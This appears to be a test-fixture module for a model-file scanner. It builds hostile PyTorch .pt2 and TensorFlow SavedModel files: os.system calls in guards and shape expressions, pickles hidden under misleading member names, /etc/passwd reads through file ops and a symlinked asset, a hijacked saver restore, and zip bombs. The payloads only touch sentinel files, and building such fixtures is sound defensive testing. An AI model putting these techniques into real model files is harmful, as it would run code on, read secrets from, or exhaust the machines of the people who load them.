"""Hostile files for the allow-list rules: what a deny-list let through (issue 24), built at test time.

``.pt2``: graph ops that touch files (``aten.from_file`` writing a sentinel
and reading ``/etc/passwd``), ``guards_code`` and shape expressions that run
Python, pickles under member names the old scanner skipped (``*.json``,
``*.txt``, ``extra/``, case-folded, the legacy ``<model>.pt``, a protocol-0
pickle after a legacy header), a declared-size zip bomb and a member that
inflates past what it declares. SavedModel: a signature calling a file-writing
op off the old deny list, a dataset graph rebuilt from a string constant, a
TF1 ``saver_def`` pointed at a subgraph restoring a checkpoint the attacker
names, and an asset that is a symlink to ``/etc/passwd``.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

from .hostile import Payload, _member, _rewrite_zip, _torch_save

GIB = 1 << 30


def _graph_edit(clean: Path, dst: Path, edit: Any) -> Path:
    def apply(m: dict[str, bytes]) -> None:
        name = _member(m, "models/model.json")
        doc = json.loads(m[name])
        edit(doc)
        m[name] = json.dumps(doc).encode()

    return _rewrite_zip(clean, dst, apply)


def _from_file(path: str, shared: bool) -> Any:
    def edit(doc: dict[str, Any]) -> None:
        node = doc["graph_module"]["graph"]["nodes"][0]
        node["target"] = "torch.ops.aten.from_file.default"
        node["inputs"] = [
            {"name": "filename", "arg": {"as_string": path}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": shared}, "kind": 1},
            {"name": "size", "arg": {"as_int": 64}, "kind": 1},
        ]

    return edit


def pt2_graphs(clean: Path, out: Path, sentinels: Path) -> dict[str, Path]:
    """Programs whose graph, shape expressions or guards reach the host."""

    def guards(doc: dict[str, Any]) -> None:
        doc["guards_code"] = [f"__import__('os').system('touch {sentinels / 'pt2_guards'}') == 0"]

    def sympy(doc: dict[str, Any]) -> None:
        text = json.dumps(doc)
        cmd = f"touch {sentinels / 'pt2_sympy'}"
        evil = f"Symbol('s0', positive=True, integer=True) + 0*len(str(__import__('os').system('{cmd}')))"
        start = text.index('"expr_str": "') + len('"expr_str": "')
        end = text.index('"', start)
        doc.clear()
        doc.update(json.loads(text[:start] + json.dumps(evil)[1:-1] + text[end:]))

    edits = {
        "pt2_from_file_write": _from_file(str(sentinels / "pt2_from_file_write"), True),
        "pt2_from_file_read": _from_file("/etc/passwd", False),
        "pt2_guards": guards,
        "pt2_sympy": sympy,
    }
    return {k: _graph_edit(clean, out / f"{k}.pt2", e) for k, e in edits.items()}


def _pickled_weight(m: dict[str, bytes], path_name: str, blob: bytes) -> None:
    cfg_name = _member(m, "model_weights_config.json")
    cfg = json.loads(m[cfg_name])
    meta = next(iter(cfg["config"].values()))
    meta.update(path_name=path_name, use_pickle=True)
    m[cfg_name.rsplit("/", 1)[0] + "/" + path_name] = blob
    m[cfg_name] = json.dumps(cfg).encode()


def _legacy_protocol0(sentinel: Path) -> bytes:
    """A legacy torch.save header (magic number, protocol-2) then a protocol-0 payload: no header to see."""
    import torch

    return pickle.dumps(torch.serialization.MAGIC_NUMBER, protocol=2) + pickle.dumps(Payload(sentinel), protocol=0)


def pt2_names(clean: Path, out: Path, sentinels: Path) -> dict[str, Path]:
    """Code-running pickles under the member names the old scanner read as text or skipped."""

    def named(kind: str, path_name: str) -> Any:
        return lambda m: _pickled_weight(m, path_name, _torch_save(Payload(sentinels / kind)))

    def legacy(m: dict[str, bytes]) -> None:
        root = next(iter(m)).split("/", 1)[0]
        m[f"{root}/data/weights/model.pt"] = _torch_save(Payload(sentinels / "pt2_legacy_weights"))

    def casefold(m: dict[str, bytes]) -> None:
        name = _member(m, "sample_inputs/model.pt")
        del m[name]
        m[name.replace("model.pt", "MODEL.PT")] = _torch_save(Payload(sentinels / "pt2_casefold"))

    edits = {
        "pt2_json_name": named("pt2_json_name", "weights.json"),
        "pt2_txt_name": named("pt2_txt_name", "notes.txt"),
        "pt2_extra_name": named("pt2_extra_name", "extra/w"),
        "pt2_legacy_weights": legacy,
        "pt2_casefold": casefold,
        "pt2_protocol0": lambda m: _pickled_weight(m, "weight_9", _legacy_protocol0(sentinels / "pt2_protocol0")),
    }
    return {k: _rewrite_zip(clean, out / f"{k}.pt2", e) for k, e in edits.items()}


def _zeros_member(zf: zipfile.ZipFile, name: str, size: int) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    block = bytes(1 << 20)
    with zf.open(info, "w") as fh:
        for _ in range(size >> 20):
            fh.write(block)


def _patch_declared_size(data: bytearray, name: str, size: int, crc: int) -> None:
    """Rewrite one member's declared size and CRC in both its local header and its central record."""
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        off = zf.getinfo(name).header_offset
    struct.pack_into("<I", data, off + 14, crc)
    struct.pack_into("<I", data, off + 22, size)
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name.encode()) + 1)
    struct.pack_into("<I", data, central + 16, crc)
    struct.pack_into("<I", data, central + 24, size)


def zip_bombs(clean: Path, out: Path) -> dict[str, Path]:
    """``pt2_bomb``: ~1 MiB whose sample inputs declare (and inflate to) 1 GiB. ``pt2_liar``: the same
    stream declared as 1 KiB, so only a reader that stops at the declared size stays small."""
    with zipfile.ZipFile(clean) as src:
        members = {n: src.read(n) for n in src.namelist()}
    sample = _member(members, "sample_inputs/model.pt")
    paths = {"pt2_bomb": out / "pt2_bomb.pt2", "pt2_liar": out / "pt2_liar.pt2"}
    with zipfile.ZipFile(paths["pt2_bomb"], "w") as zf:
        for name, blob in members.items():
            if name == sample:
                _zeros_member(zf, name, GIB)
            else:
                zf.writestr(name, blob)
    data = bytearray(paths["pt2_bomb"].read_bytes())
    _patch_declared_size(data, sample, 1024, zlib.crc32(bytes(1024)))
    paths["pt2_liar"].write_bytes(bytes(data))
    return paths


def savedmodels(out: Path, sentinels: Path, secret: Path) -> dict[str, Path]:
    """SavedModels whose signature or saver reaches the host through ops a deny-list did not name."""
    import tensorflow as tf

    spec = [tf.TensorSpec([None, 1], tf.float32, name="x")]
    target = str(sentinels / "sm_save_op")

    class SaveOp(tf.Module):
        @tf.function(input_signature=spec)
        def serve(self, x: Any) -> Any:
            tf.raw_ops.Save(filename=target, tensor_names=["x"], data=[x])
            return {"y": x * 2.0 + 1.0}

    class FromString(tf.Module):
        def __init__(self) -> None:
            self.graph = tf.data.Dataset.range(3)._as_serialized_graph().numpy()

        @tf.function(input_signature=spec)
        def serve(self, x: Any) -> Any:
            ds = tf.raw_ops.DatasetFromGraph(graph_def=tf.constant(self.graph))
            n = tf.raw_ops.DatasetCardinality(input_dataset=ds)
            return {"y": x * 2.0 + 1.0 + tf.cast(n, tf.float32) * 0.0}

    files = {}
    for key, mod in (("sm_save_op", SaveOp()), ("sm_graph_from_string", FromString())):
        files[key] = out / f"{key}.savedmodel"
        tf.saved_model.save(mod, str(files[key]), signatures={"serving_default": mod.serve})
    files["sm_saver_hijack"] = _saver_hijack(out / "sm_saver_hijack.savedmodel", secret)
    files["sm_symlink_asset"] = _symlinked_asset(out / "sm_symlink_asset.savedmodel")
    return files


def _saver_hijack(path: Path, secret: Path) -> Path:
    """A TF1 SavedModel whose ``saver_def.restore_op_name`` names a subgraph restoring the variable from
    a checkpoint at a path of the attacker's choosing (``secret``): its value would come back as output."""
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as sess:
        x = v1.placeholder(tf.float32, [None, 1], name="x")
        w = v1.get_variable("w", initializer=2.0, use_resource=False)
        y = tf.identity(x * w + 1.0, name="y")
        restored = tf.raw_ops.RestoreV2(
            prefix=tf.constant(str(secret)), tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.float32]
        )
        evil = tf.group(v1.assign(w, restored[0]), name="evil_restore")
        sess.run(v1.global_variables_initializer())
        builder = v1.saved_model.Builder(str(path))
        sig = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(sess, ["serve"], signature_def_map={"serving_default": sig})
        builder.save()
    sm = saved_model_pb2.SavedModel()
    sm.ParseFromString((path / "saved_model.pb").read_bytes())
    sm.meta_graphs[0].saver_def.restore_op_name = evil.name
    (path / "saved_model.pb").write_bytes(sm.SerializeToString())
    return path


def vocab_savedmodel(path: Path, words: str) -> Path:
    """A tf.Module whose lookup table reads its vocabulary file (a SavedModel asset) at load."""
    import tensorflow as tf

    vocab = path.parent / f"{path.name}_vocab.txt"
    vocab.write_text(words)

    class Vocab(tf.Module):
        def __init__(self) -> None:
            init = tf.lookup.TextFileInitializer(
                str(vocab), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER
            )
            self.table = tf.lookup.StaticHashTable(init, -1)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="words")])
        def serve(self, words: Any) -> Any:
            return {"ids": self.table.lookup(words)}

    mod = Vocab()
    tf.saved_model.save(mod, str(path), signatures={"serving_default": mod.serve})
    return path


def _symlinked_asset(path: Path) -> Path:
    """A vocabulary-table SavedModel whose asset file was swapped for a symlink to /etc/passwd."""
    vocab_savedmodel(path, "root\ndaemon\n")
    (asset,) = (path / "assets").iterdir()
    asset.unlink()
    asset.symlink_to("/etc/passwd")
    return path
